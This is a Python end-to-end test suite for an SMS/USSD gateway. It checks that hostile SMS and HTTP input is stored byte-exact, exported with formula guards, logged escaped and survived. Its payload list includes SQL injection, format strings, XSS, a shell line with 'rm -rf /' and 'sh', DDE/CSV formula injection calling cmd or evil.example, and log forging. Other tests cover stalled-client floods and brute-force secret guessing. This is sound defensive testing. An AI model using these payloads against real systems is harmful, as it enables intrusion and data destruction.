"""Issue 8, item 4: hostile input. SMS that try SQL, format strings, shell,
spreadsheet formulas, log forging, NUL bytes, broken UTF-16, a 255-part
message and a flood of 10,000 from one sender, delivered through the dummy
modem exactly as Gammu stores them; and hostile HTTP on the USSD and admin
listeners. Each SMS must be stored byte-exact, exported safely, logged
escaped and answered at most as the loop guard allows; nothing may crash."""

import csv
import io
import json
import os
import re
import resource
import selectors
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import BIN, Gateway, Suite, check, check_eq, free_port, wait_until  # noqa: E402

SECRET = "rahasia-desa-4242"
HTTP_TIMEOUT = 2
gw = None
USSD = ADMIN = None


# -- SMS as Gammu's dummy driver stores them ---------------------------------

def sms_backup(number, units, coding="Unicode_No_Compression", when="20261128T101500",
               udh=None):
    """The text of one Gammu SMS backup file: `units` is the message as
    UTF-16BE bytes (the driver's Text00.. lines), `udh` a hex string."""
    num = number.encode("utf-16-be").hex().upper()
    text = units.hex().upper()
    lines = ["[SMSBackup000]", "SMSC = \"+6281100000\"", "PDU = Deliver",
             "DateTime = %s" % when, "State = UnRead",
             "Number = \"%s\"" % "".join(c if c.isalnum() or c == "+" else "?" for c in number),
             "NumberUnicode = %s" % num]
    if udh:
        lines.append("UDH = %s" % udh)
    for i in range(0, max(len(text), 1), 200):
        lines.append("Text%02d = %s" % (i // 200, text[i:i + 200]))
    lines += ["Coding = %s" % coding, "Folder = 1", "Length = %d" % (len(units) // 2),
              "Class = -1", ""]
    return "\n".join(lines) + "\n"


def deliver(modem, body, location=None, folder=1):
    """Put one SMS file into an inbox (DIR/sms/1 the SIM, DIR/sms/3 the
    phone), atomically, at the given location or the first free one;
    returns the location. The dummy driver never reads location 10000."""
    inbox = os.path.join(modem, "sms", str(folder))
    os.makedirs(inbox, exist_ok=True)
    tmp = os.path.join(modem, ".hostile-%d" % os.getpid())
    with open(tmp, "w") as f:
        f.write(body)
    locs = [location] if location else range(1, 10000)
    for loc in locs:
        try:
            os.link(tmp, os.path.join(inbox, str(loc)))
            os.unlink(tmp)
            return loc
        except FileExistsError:
            continue
    os.unlink(tmp)
    raise AssertionError("dummy inbox full")


def ucs2(s):
    return s.encode("utf-16-be", "surrogatepass")


def stored(number):
    """(hex of the stored text, state) of each message from number."""
    rows = gw.sql("SELECT hex(text) || '|' || state FROM messages WHERE number = '%s' "
                  "ORDER BY id" % number)
    return [tuple(r.split("|")) for r in rows.splitlines()]


def replies_to(number):
    return int(gw.sql("SELECT COUNT(*) FROM outbox WHERE number = '%s'" % number))


def processed(number, n=1):
    return lambda: len([s for _, s in stored(number) if s != "received"]) >= n


def log_is_clean(what):
    """The log holds no raw control byte that came from an SMS, and no line
    that an SMS forged."""
    with open(gw.log, "rb") as f:
        raw = f.read()
    bad = sorted({b for b in raw if b < 0x20 and b not in (0x0a, 0x09)})
    check(not bad, "%s: raw control bytes in the log: %r" % (what, bad))
    check(not any(l.startswith(b"FAKE") for l in raw.splitlines()), what + ": a forged log line")


def export_raw(kind, fmt="csv", g=None):
    """An export as it is written (no newline translation: a CR in a
    cell must stay a CR)."""
    g = g or gw
    r = subprocess.run([BIN, "export", "-c", g.config, kind, "--format", fmt],
                       capture_output=True, check=True)
    return r.stdout.decode("utf-8", "surrogateescape")


def export_rows(kind, fmt):
    out = export_raw(kind, fmt)
    if fmt == "json":
        return json.loads(out)
    if fmt == "jsonl":
        return [json.loads(l) for l in out.splitlines() if l.strip()]
    return list(csv.DictReader(io.StringIO(out, newline="")))


# -- hostile SMS --------------------------------------------------------------

HOSTILE = [
    "'; DROP TABLE messages; --",
    "ADUAN sukamaju '); DELETE FROM records; SELECT ('",
    "quote \" double \"\" and 'single' and `back`",
    "back\\slash \\\\ \\x00 \\n \\' C:\\new\\table",
    "%s%n%x%p%99999999d%hhn",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "$(reboot) `reboot` ; rm -rf / && echo pwned | sh",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@ at the start: GSM 7-bit code 0",
    "line one\nFAKE 2026-11-28 10:00:00 kentongan[1] info: forged line",
    "esc \x1b[31mRED\x1b[0m bell \x07 cr \r tab \t del \x7f",
    "emoji \U0001F600 and aksara \uA98F\uA9BA and zero-width \u200b\u202e rtl",
]


def test_hostile_texts():
    numbers = []
    for i, text in enumerate(HOSTILE):
        number = "+628125550%04d" % i
        numbers.append(number)
        gw.cli("inject", "--", number, text)
    for number in numbers:
        wait_until("processed " + number, processed(number))
    msgs_csv = {r["text"].lstrip("'") if r["text"][:2] in ("'=", "'+", "'-", "'@") else r["text"]: r
                for r in export_rows("messages", "csv") if r["direction"] == "in"}
    msgs_json = [r for r in export_rows("messages", "json") if r["direction"] == "in"]
    for number, text in zip(numbers, HOSTILE):
        rows = stored(number)
        check_eq(len(rows), 1, "stored once: %r" % text)
        want = text.encode().hex().upper()
        # libGammu's dummy driver keeps CR as it is; a lone CR would come
        # back as CR: byte-exact either way
        check_eq(rows[0][0], want, "byte-exact: %r" % text)
        check(replies_to(number) <= 1, "at most one reply: %r" % text)
        # CSV: the same text back, formula guarded
        check(text in msgs_csv, "CSV export lost %r" % text)
        j = [r for r in msgs_json if r["number"] == number]
        check_eq(len(j), 1, "JSON row")
        check_eq(j[0]["text"], text, "JSON round trip")
    raw = export_raw("messages")
    for text in HOSTILE:
        if text[0] in "=+-@":
            check("\"'" + text.replace('"', '""') in raw or ",'" + text in raw,
                  "formula guard for %r" % text)
    # the database is whole, and every table is still there
    check_eq(gw.sql("PRAGMA integrity_check"), "ok", "integrity")
    check(int(gw.sql("SELECT COUNT(*) FROM messages")) >= len(HOSTILE), "messages table")
    log_is_clean("hostile texts")
    check("\\x1b[31mRED" in gw.read_log(), "ESC is logged escaped")


def test_hostile_sender_numbers():
    # Over the air an alphanumeric sender is GSM 7-bit and may hold LF and
    # ESC; the dummy driver takes it from NumberUnicode.
    senders = ["EVIL\nFAKE log", "\x1b[2J<script>", "'; DROP TABLE contacts; --",
               "=HYPERLINK(\"x\")", "%s%n%s%n"]
    for i, s in enumerate(senders):
        deliver(gw.modem, sms_backup(s, ucs2("BANTU"), when="20261128T1016%02d" % i))
    wait_until("hostile senders stored",
               lambda: int(gw.sql("SELECT COUNT(*) FROM messages WHERE number_raw IN (%s)"
                                  % ",".join("'%s'" % s.replace("'", "''") for s in senders))) == len(senders))
    wait_until("all processed", lambda: gw.sql(
        "SELECT COUNT(*) FROM messages WHERE state = 'received'") == "0")
    for s in senders:
        check_eq(gw.sql("SELECT state FROM messages WHERE number_raw = '%s'" % s.replace("'", "''")),
                 "ignored", "not a number, never answered: %r" % s)
    out = export_raw("messages")
    check("\"'=HYPERLINK" in out, "formula guard on the number")
    check(export_rows("messages", "json"), "every JSON line parses")
    log_is_clean("hostile senders")


def test_nul_at_and_broken_utf16():
    cases = [
        # (what, UTF-16BE units, coding, the bytes the store must hold)
        ("NUL inside", ucs2("AB") + b"\0\0" + ucs2("CD"), "Unicode_No_Compression", b"AB\0CD"),
        ("NUL first", b"\0\0" + ucs2("ADUAN x"), "Unicode_No_Compression", b"\0ADUAN x"),
        ("@ in GSM 7-bit", ucs2("@@ a@b"), "Default_No_Compression", b"@@ a@b"),
        ("lone high surrogate", ucs2("A") + b"\xd8\x00" + ucs2("B"), "Unicode_No_Compression", None),
        ("lone low surrogate", b"\xdc\x00" + ucs2("C"), "Unicode_No_Compression", None),
        ("reversed pair", b"\xde\x00\xd8\x3d", "Unicode_No_Compression", None),
        ("noncharacters", b"\xff\xff\xff\xfe" + ucs2("D"), "Unicode_No_Compression", None),
    ]
    numbers = []
    for i, (what, units, coding, _) in enumerate(cases):
        number = "+628125551%04d" % i
        numbers.append(number)
        deliver(gw.modem, sms_backup(number, units, coding=coding))
    # an 8-bit (binary) SMS with NUL and 0xff: kept as hex, never parsed
    deliver(gw.modem, sms_backup("+6281255519999", b"\x00\xff\x00\x41\x0a\x1b", coding="8bit"))
    for number in numbers + ["+6281255519999"]:
        wait_until("processed " + number, processed(number))
    for number, (what, units, coding, want) in zip(numbers, cases):
        rows = stored(number)
        check_eq(len(rows), 1, what)
        got = bytes.fromhex(rows[0][0])
        if want is not None:
            check_eq(got, want, what)
        else:
            check(len(got) > 0, what + ": stored")
        check(replies_to(number) <= 1, what + ": at most one reply")
    check_eq(stored("+6281255519999"), [(b"00FF00410A1B".hex().upper(), "ignored")], "binary SMS as hex, not answered")
    # exports stay well-formed whatever the bytes: JSON lines parse (bad
    # UTF-8 becomes U+FFFD), CSV parses
    j = export_rows("messages", "json")
    check(any(r["number"] == numbers[2] and r["text"] == "@@ a@b" for r in j), "@ exported")
    check(len(export_rows("messages", "csv")) == len([r for r in j]), "CSV and JSON agree")
    log = gw.read_log()
    check("AB\\x00CD" in log, "NUL logged escaped")
    log_is_clean("NUL and broken UTF-16")


def test_255_parts():
    # libGammu's GSM_MAX_MULTI_SMS is 50: the most `inject` (the encoder)
    # can make is 50 parts. Over the air a sender may claim 255.
    n = 255
    parts = ["[%03d] " % k + "x" * 60 for k in range(1, n + 1)]
    number = "+6281255520001"
    for k in range(n, 0, -1):       # last part first
        deliver(gw.modem, sms_backup(number, ucs2(parts[k - 1]), udh="050003A7%02X%02X" % (n, k)))
    wait_until("255 parts joined", processed(number), timeout=60)
    rows = stored(number)
    check_eq(len(rows), 1, "one message")
    check_eq(bytes.fromhex(rows[0][0]).decode(), "".join(parts), "joined in order")
    check_eq(gw.sql("SELECT COUNT(*) FROM sms_in WHERE number = '%s'" % number), str(n), "parts")
    # the largest the encoder makes: 50 parts of GSM 7-bit
    out = gw.inject("+6281255520002", "ADUAN sukamaju " + "y" * 7480)
    check_eq(out.count("/50 ->"), 50, "inject makes 50 parts")
    wait_until("50 parts joined", processed("+6281255520002"), timeout=30)
    check_eq(len(bytes.fromhex(stored("+6281255520002")[0][0])), 7495, "50-part text whole")
    # concatenation headers that lie: part 0, part past the total, total 1
    for udh in ("050003B10300", "050003B10305", "050003B20101", "050003B3FFFF", "0500"):
        deliver(gw.modem, sms_backup("+6281255520003", ucs2("bad udh " + udh), udh=udh))
    wait_until("bad headers read", lambda: not gw.inbox(), timeout=30)
    check_eq(gw.sql("PRAGMA integrity_check"), "ok", "integrity")
    check(gw.proc.poll() is None, "still running")


def part(number, text, ref, total, seq, when):
    """One part of a long SMS as the dummy driver stores it: its own
    concatenation header and its own SMSC time."""
    return sms_backup(number, ucs2(text), when=when,
                      udh="050003%02X%02X%02X" % (ref, total, seq))


def messages_of(g, number):
    """(text, parts, incomplete, state) of each message from number."""
    rows = g.sql("SELECT hex(text), parts, incomplete, state FROM messages "
                 "WHERE number = '%s' ORDER BY id" % number)
    return [(bytes.fromhex(h).decode(), int(p), int(i), s)
            for h, p, i, s in (r.split("|") for r in rows.splitlines())]


def test_multipart_reference_reused():
    """Issue 15: a phone that reuses its 8-bit concatenation reference. Two
    long SMS from one sender with the same reference, read within
    multipart_timeout: A's part 1 (sent 10:00) and B's part 2 (sent 10:05)
    were joined into one garbled message, and B's own part 1 was then left
    over as an incomplete message. A duplicated part (the network
    delivering a part again with a new SMSC time, after its message was
    joined or before) must be neither lost nor joined twice."""
    mp = Gateway("hostile-multipart", extra_kentongan="multipart_timeout = 2").start()
    x, y, z = "+6281255530001", "+6281255530002", "+6281255530003"
    a1 = "ADUAN sukamaju jembatan di dusun Krajan putus, "
    b1, b2 = "ASPIRASI PD01 pupuk subsidi ", "mohon ditambah untuk petani"
    try:
        deliver(mp.modem, part(x, a1, 0x4D, 2, 1, "20261128T100000"))
        deliver(mp.modem, part(x, b2, 0x4D, 2, 2, "20261128T100500"))
        deliver(mp.modem, part(x, b1, 0x4D, 2, 1, "20261128T100458"))
        wait_until("both handled", lambda: len(messages_of(mp, x)) == 2 and all(
            s != "received" for *_, s in messages_of(mp, x)), timeout=30)
        got = sorted(messages_of(mp, x))
        check_eq([t for t, *_ in got], sorted([a1 + "[...]", b1 + b2]), "texts")
        check_eq({t: (p, i) for t, p, i, _ in got},
                 {a1 + "[...]": (1, 1), b1 + b2: (2, 0)}, "parts, incomplete")

        # part 2 again 8 s later, after its message was joined: the same
        # message's copy, stored and linked to it, not a second message
        deliver(mp.modem, part(y, "BANTU ", 0x21, 2, 1, "20261128T101000"))
        deliver(mp.modem, part(y, "ADUAN", 0x21, 2, 2, "20261128T101001"))
        wait_until("y joined", lambda: messages_of(mp, y))
        deliver(mp.modem, part(y, "ADUAN", 0x21, 2, 2, "20261128T101009"))
        # part 2 twice before part 1
        deliver(mp.modem, part(z, "STATUS ", 0x22, 2, 2, "20261128T101100"))
        deliver(mp.modem, part(z, "STATUS ", 0x22, 2, 2, "20261128T101106"))
        deliver(mp.modem, part(z, "BANTU ", 0x22, 2, 1, "20261128T101059"))
        for n in (y, z):
            wait_until("all parts of %s stored, none waiting" % n, lambda: mp.sql(
                "SELECT COUNT(*), SUM(state = 'waiting') FROM sms_in WHERE number = '%s'" % n)
                == "3|0", timeout=30)
        check_eq([t for t, *_ in messages_of(mp, y)], ["BANTU ADUAN"], "y: one message")
        check_eq([t for t, *_ in messages_of(mp, z)], ["BANTU STATUS "], "z: one message")
        for n in (y, z):
            check_eq(mp.sql("SELECT COUNT(DISTINCT message_id) FROM sms_in WHERE number = '%s'" % n),
                     "1", "%s: every copy linked to its one message" % n)
        check(mp.proc.poll() is None, "still running")
    finally:
        mp.stop()


def test_flood_10000_from_one_sender():
    """10,000 SMS from one number within a minute, straight into the dummy
    inbox (its limit per folder) while the gateway runs."""
    flood = Gateway("hostile-flood", extra_kentongan="replies_per_hour = 10",
                    extra="[admin]\nlisten = 127.0.0.1:%d\n" % ADMIN_FLOOD).start()
    number = "+6281299990000"
    texts = ["BANTU", "ADUAN sukamaju jalan rusak", "STATUS ADU-1", "halo?", "RAPAT x"]
    try:
        t0 = time.monotonic()
        for i in range(10000):
            # The same text from the same number in the same second is the
            # same SMS read twice (the dedup key): the first 60 repeat one
            # text a second apart, for the loop guard; the rest differ.
            text = "BANTU" if i < 60 else "%s %d" % (texts[i % 5], i)
            body = sms_backup(number, ucs2(text), when="20261128T1015%02d" % (i if i < 60 else i * 60 // 10000))
            # at most 9,999 a folder: half on the SIM, half in the phone
            deliver(flood.modem, body, location=i % 5000 + 1, folder=1 if i < 5000 else 3)
        written = time.monotonic() - t0
        check(written < 60, "written within a minute (%.1fs)" % written)
        check_eq(http_get(ADMIN_FLOOD, "/health")[0], 200, "healthy during the flood")

        def count(q):
            return int(flood.sql(q))
        # the same text in the same second is one SMS read twice: the
        # generator varies the text or the second, so all 10,000 are distinct
        wait_until("all stored", lambda: count("SELECT COUNT(*) FROM messages WHERE number = '%s'"
                                               % number) == 10000, timeout=240, interval=0.5)
        wait_until("all processed", lambda: count(
            "SELECT COUNT(*) FROM messages WHERE state = 'received'") == 0, timeout=240, interval=0.5)
        # A delete goes to the modem once its commit is on disk (the sync
        # thread), which may be after the last message was processed.
        wait_until("inbox drained", lambda: flood.inbox() == [], timeout=60)
        wait_until("phone inbox drained", lambda: os.listdir(
            os.path.join(flood.modem, "sms", "3")) == [], timeout=60)
        check_eq(count("SELECT COUNT(*) FROM sms_in"), 10000, "each stored once")
        replies = count("SELECT COUNT(*) FROM outbox WHERE number = '%s' AND state != 'withheld'" % number)
        check(1 <= replies <= 10, "replies within replies_per_hour: %d" % replies)
        check_eq(count("SELECT COUNT(*) FROM outbox WHERE number = '%s'" % number), 10000,
                 "the rest withheld, a row each")
        check_eq(http_get(ADMIN_FLOOD, "/health")[0], 200, "healthy after")
        check(flood.proc.poll() is None, "still running")
    finally:
        flood.stop()


# -- hostile HTTP -------------------------------------------------------------

def http_get(port, path):
    try:
        with urllib.request.urlopen("http://127.0.0.1:%d%s" % (port, path), timeout=10) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


def raw(port, data, timeout=10, shutdown=True, source=None):
    """Send bytes, read until the peer closes; (status or None, bytes).
    source: the loopback address to send from (127.0.0.0/8 is all ours)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout,
                                 source_address=(source, 0) if source else None)
    try:
        try:
            s.sendall(data)
            if shutdown:
                s.shutdown(socket.SHUT_WR)
        except OSError:
            pass    # the server may close before it has read everything
        buf = b""
        while True:
            try:
                d = s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not d:
                break
            buf += d
    finally:
        s.close()
    status = int(buf.split(b" ")[1]) if buf.startswith(b"HTTP/1.") else None
    return status, buf


def ussd_req(body, query="?key=" + SECRET, extra=b"", path="/ussd"):
    return (b"POST " + path.encode() + query.encode() + b" HTTP/1.1\r\nHost: x\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\n" + extra +
            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)


FORM = b"sessionId=h1&serviceCode=%2A123%23&phoneNumber=%2B6281255530001&text="


def serving():
    return raw(USSD, ussd_req(FORM))[0] == 200 and http_get(ADMIN, "/health")[0] == 200


def test_http_secrets_and_methods():
    # each wrong one from its own address: a source that keeps failing is
    # refused (test_http_secret_guessing_is_slowed)
    srcs = iter("127.0.0.%d" % i for i in range(10, 30))

    def wrong(req):
        return raw(USSD, req, source=next(srcs))[0]
    check_eq(wrong(ussd_req(FORM, query="")), 401, "no secret")
    check_eq(wrong(ussd_req(FORM, query="?key=salah")), 401, "wrong secret")
    check_eq(wrong(ussd_req(FORM, query="?key=" + SECRET + "x")), 401, "longer secret")
    check_eq(wrong(ussd_req(FORM, query="?key=" + SECRET[:-1])), 401, "prefix of the secret")
    check_eq(wrong(ussd_req(FORM, query="?key=" + SECRET + "%00")), 401, "secret%00")
    check_eq(wrong(ussd_req(FORM, query="?key=%00" + SECRET)), 401, "%00secret")
    check_eq(wrong(ussd_req(FORM, query="?key=" + "A" * 3000)), 401, "long key")
    check_eq(wrong(ussd_req(FORM, query="", extra=b"Authorization: Basic " + b"QUFB" * 2000 + b"\r\n")),
             401, "long Basic")
    check_eq(wrong(ussd_req(FORM, query="", extra=b"Authorization: Basic !!!!\r\n")), 401, "bad base64")
    check_eq(wrong(ussd_req(FORM, query="", extra=b"Authorization: Basic =\r\n")), 401, "empty base64")
    check_eq(raw(USSD, ussd_req(FORM, query="?key=" + SECRET, path="/ussd%00"))[0], 404, "%00 in the path")
    check_eq(raw(USSD, ussd_req(FORM, query="?key=" + SECRET, path="/ussd/../ussd"))[0], 404, "dot segments")
    bad = FORM.replace(b"h1", b"h%002")
    check_eq(raw(USSD, ussd_req(bad))[0], 400, "%00 in a field")
    check_eq(raw(USSD, ussd_req(FORM + b"%FF%FE%C0%80"))[0], 200, "bad UTF-8 in text: answered")
    check_eq(raw(USSD, ussd_req(b"sessionId=h2&serviceCode=x&phoneNumber=%2B6281255530002&text=2*'%3B"
                                b"DROP TABLE x%3B--*%25s%25n<script>"))[0], 200, "hostile text")
    for m in (b"GET", b"PUT", b"DELETE", b"TRACE", b"CONNECT", b"FOO"):
        st = raw(USSD, m + b" /ussd?key=" + SECRET.encode() + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")[0]
        # ours answer 405 with Allow; evhttp answers 501 for the rest
        check_eq(st, 405 if m in (b"GET", b"PUT", b"DELETE") else 501, m.decode())
    st = raw(ADMIN, b"POST /health HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")[0]
    check_eq(st, 501, "POST to admin")
    check(serving(), "still serving")


GUESSER, NEIGHBOUR = "127.0.0.77", "127.0.0.78"


def test_http_secret_guessing_is_slowed():
    # Issue 15: the secret could be tried ~8,800 times a second, with no
    # log line. Now a source is refused (429, at once: the loop never
    # sleeps) after a few failures, for an interval that grows.
    t0 = time.monotonic()
    statuses, retry_after, right = [], None, None
    while time.monotonic() - t0 < 3.0:
        st, buf = raw(USSD, ussd_req(FORM, query="?key=tebak%d" % len(statuses)), source=GUESSER)
        statuses.append(st)
        if st == 429 and retry_after is None:
            retry_after = buf
        # refused means refused: the right secret too, so a refusal tells
        # nothing. Asked at once after a refusal that has at least a second
        # left, so a slow machine cannot see the interval end in between.
        if st == 429 and right is None and re.search(rb"Retry-After: ([3-9]|\d\d)", buf):
            right = raw(USSD, ussd_req(FORM), source=GUESSER)[0]
    guesses = statuses.count(401)
    check(len(statuses) > 100, "tried %d times" % len(statuses))
    check(5 <= guesses <= 8, "%d of %d tries were checked in 3 s" % (guesses, len(statuses)))
    check_eq(statuses.count(401) + statuses.count(429), len(statuses), "401 or 429 only")
    check(retry_after is not None and b"Retry-After: " in retry_after, "says when: %r" % retry_after)
    check_eq(right, 429, "the right secret while refused")
    # per source: the aggregator next door is served
    check_eq(raw(USSD, ussd_req(FORM), source=NEIGHBOUR)[0], 200, "another source")
    # once the interval is over, the right secret is served again
    wait_until("served again", lambda: raw(USSD, ussd_req(FORM), source=GUESSER)[0] == 200,
               timeout=AUTH_MAX_LOCK + 10, interval=0.5)
    lines = [l for l in gw.read_log().splitlines() if GUESSER in l]
    check(1 <= len(lines) <= 2, "told at most once a minute: %r" % lines)
    check(all("failed authentication" in l for l in lines), lines)


AUTH_MAX_LOCK = 60


def test_http_huge_and_malformed():
    big = b"sessionId=h3&text=" + b"A" * (1 << 20)
    check_eq(raw(USSD, ussd_req(big))[0], 413, "1 MB body")
    check_eq(raw(USSD, ussd_req(big, query=""))[0], 413, "1 MB body, no secret")
    chunked = (b"POST /ussd?key=" + SECRET.encode() + b" HTTP/1.1\r\nHost: x\r\n"
               b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" +
               b"".join(b"1000\r\n" + b"B" * 4096 + b"\r\n" for _ in range(64)) + b"0\r\n\r\n")
    check(raw(USSD, chunked)[0] in (None, 413), "256 KiB chunked refused")
    # evhttp's limits: headers 8 KiB (400), body 4 KiB (413)
    check_eq(raw(USSD, ussd_req(FORM, extra=b"X-Big: " + b"h" * 100000 + b"\r\n"))[0], 400, "100 KB header")
    many = b"".join(b"X-H%d: v\r\n" % i for i in range(5000))
    check_eq(raw(USSD, ussd_req(FORM, extra=many))[0], 400, "5,000 headers")
    check_eq(raw(USSD, b"POST /ussd?" + b"k" * 200000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")[0], 400,
             "200 KB request line")
    check_eq(raw(USSD, ussd_req(FORM, extra=b"Content-Length: 999999999999999999999\r\n"))[0], 413,
             "absurd Content-Length")
    check_eq(raw(USSD, ussd_req(FORM, extra=b"Content-Length: -5\r\n"))[0], 400, "negative length")
    for junk in (b"\x00" * 1000, b"\r\n" * 5000, os.urandom(4096), b"GET\r\n\r\n",
                 b"GET / HTTP/9.9\r\n\r\n", b"GET /health HTTP/1.1\r\nHost: x\r\n\x00\r\n\r\n"):
        st, _ = raw(USSD, junk)
        check(st in (None, 400, 404, 405, 505), "junk answered %r" % st)
        st, _ = raw(ADMIN, junk)
        check(st in (None, 200, 400, 404, 405, 505), "junk on admin answered %r" % st)
    check(serving(), "still serving")
    check(gw.proc.poll() is None, "still running")


def test_http_slow_clients():
    # 200 clients that open a request and stop, on both listeners; the
    # others are served meanwhile, and each slow one is cut off after
    # http_timeout.
    slow = []
    for i in range(200):
        s = socket.create_connection(("127.0.0.1", USSD if i % 2 else ADMIN))
        s.sendall(b"POST /ussd?key=" + SECRET.encode() + b" HTTP/1.1\r\nHost: x\r\nContent-Len")
        slow.append(s)
    t0 = time.monotonic()
    check(serving(), "served while 200 clients stall")
    sel = selectors.DefaultSelector()
    for s in slow:
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
    closed = 0
    deadline = t0 + HTTP_TIMEOUT + 10
    while closed < len(slow) and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.5):
            try:
                d = key.fileobj.recv(4096)
            except OSError:
                d = b""
            if not d:
                sel.unregister(key.fileobj)
                closed += 1
    waited = time.monotonic() - t0
    for s in slow:
        s.close()
    check_eq(closed, len(slow), "slow clients cut off (after %.1fs)" % waited)
    check(waited < HTTP_TIMEOUT + 5, "cut off after %.1fs" % waited)
    # A client that pauses longer than http_timeout between bytes is cut
    # off. (One that sends a byte faster than that keeps its connection:
    # evhttp's timeout is per read; descriptors are what bound it.)
    s = socket.create_connection(("127.0.0.1", USSD))
    s.sendall(ussd_req(FORM)[:30])
    s.settimeout(HTTP_TIMEOUT + 5)
    t0 = time.monotonic()
    try:
        d = s.recv(100)
    except OSError:
        d = b""
    s.close()
    check(d == b"" and time.monotonic() - t0 < HTTP_TIMEOUT + 4, "a paused client is cut off")
    check(serving(), "still serving")


def _run_all(port, requests):
    """One connection per request, all open at once; the statuses read
    back (None for a connection closed without an answer)."""
    socks = {}
    sel = selectors.DefaultSelector()
    for req in requests:
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("127.0.0.1", port))
        socks[s] = [req, b""]
        sel.register(s, selectors.EVENT_WRITE)
    statuses = []
    deadline = time.monotonic() + 60
    while socks and time.monotonic() < deadline:
        for key, ev in sel.select(timeout=1):
            s = key.fileobj
            out, buf = socks[s]
            try:
                if ev & selectors.EVENT_WRITE:
                    socks[s][0] = out[s.send(out):]
                    if not socks[s][0]:
                        sel.modify(s, selectors.EVENT_READ)
                    continue
                d = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                d = b""
            if d:
                socks[s][1] += d
                continue
            sel.unregister(s)
            s.close()
            statuses.append(int(buf.split(b" ")[1]) if buf.startswith(b"HTTP/1.") else None)
            del socks[s]
    for s in socks:
        s.close()
    return statuses


def tally(statuses):
    return {s: statuses.count(s) for s in set(statuses)}


def test_http_1000_concurrent():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < 2500:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    t0 = time.monotonic()
    st = _run_all(USSD, [ussd_req(b"sessionId=c%d&serviceCode=%%2A123%%23&phoneNumber=%%2B628125554%04d"
                                  b"&text=" % (i, i)) for i in range(1000)])
    check_eq(st.count(200), 1000, "1,000 callers at once answered 200 (%.1fs; %r)"
             % (time.monotonic() - t0, tally(st)))
    st = _run_all(ADMIN, [b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"] * 1000)
    check_eq(st.count(200), 1000, "1,000 /health at once answered 200 (%r)" % tally(st))
    check(serving(), "still serving")


def test_http_out_of_fds():
    """A daemon whose descriptors run out (hard limit 64 here) refuses what
    it cannot accept, says so in the log, and serves again afterwards."""
    import resource as r
    fdgw = Gateway("hostile-fds", extra="[admin]\nlisten = 127.0.0.1:%d\n" % ADMIN_FDS).start()
    try:
        wait_until("listening", lambda: http_get(ADMIN_FDS, "/health")[0] == 200)
        r.prlimit(fdgw.proc.pid, r.RLIMIT_NOFILE, (64, 64))
        st = _run_all(ADMIN_FDS, [b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"] * 300)
        check(st.count(200) >= 20, "some answered while out of descriptors: %r" % tally(st))
        wait_until("serving again", lambda: http_get(ADMIN_FDS, "/health")[0] == 200)
        check(fdgw.proc.poll() is None, "still running")
        log = fdgw.read_log()
        check("no file descriptor left" in log, "the shortage is logged")
        check(log.count("\n") < 2000, "and not once per try (%d lines)" % log.count("\n"))
    finally:
        fdgw.stop()


def main():
    global gw, USSD, ADMIN, ADMIN_FLOOD, ADMIN_FDS
    USSD, ADMIN, ADMIN_FLOOD, ADMIN_FDS = free_port(), free_port(), free_port(), free_port()
    s = Suite("e2e-hostile")
    gw = Gateway("hostile", extra_kentongan="http_timeout = %d" % HTTP_TIMEOUT,
                 extra="[ussd]\nlisten = 127.0.0.1:%d\npath = /ussd\nsecret = %s\n"
                       "[admin]\nlisten = 127.0.0.1:%d\n" % (USSD, SECRET, ADMIN)).start()
    try:
        wait_until("listening", lambda: http_get(ADMIN, "/health")[0] == 200)
        for t in (test_hostile_texts, test_hostile_sender_numbers, test_nul_at_and_broken_utf16,
                  test_255_parts, test_http_secrets_and_methods, test_http_secret_guessing_is_slowed,
                  test_http_huge_and_malformed,
                  test_http_slow_clients, test_http_1000_concurrent):
            s.run(t)
        def test_daemon_survived():
            check(gw.proc.poll() is None, "the daemon survived")
        s.run(test_daemon_survived)
    finally:
        rc = gw.stop()

    def test_clean_exit():
        check_eq(rc, 0, "clean exit")
    s.run(test_clean_exit)

    def test_guessing_told_with_counts():
        # what was not told yet is told at stop: every try is counted
        lines = [l for l in gw.read_log().splitlines() if "ussd: from " + GUESSER in l]
        counts = [re.search(r"(\d+) failed authentications?, (\d+) requests? refused", l) for l in lines]
        told = sum(int(m.group(1)) for m in counts if m)
        refused = sum(int(m.group(2)) for m in counts if m)
        check(told >= 5 and refused > 100, "counted: %d failed, %d refused in %r" % (told, refused, lines))
    s.run(test_guessing_told_with_counts)
    s.run(test_http_out_of_fds)
    s.run(test_multipart_reference_reused)
    s.run(test_flood_10000_from_one_sender)
    s.finish()


if __name__ == "__main__":
    main()
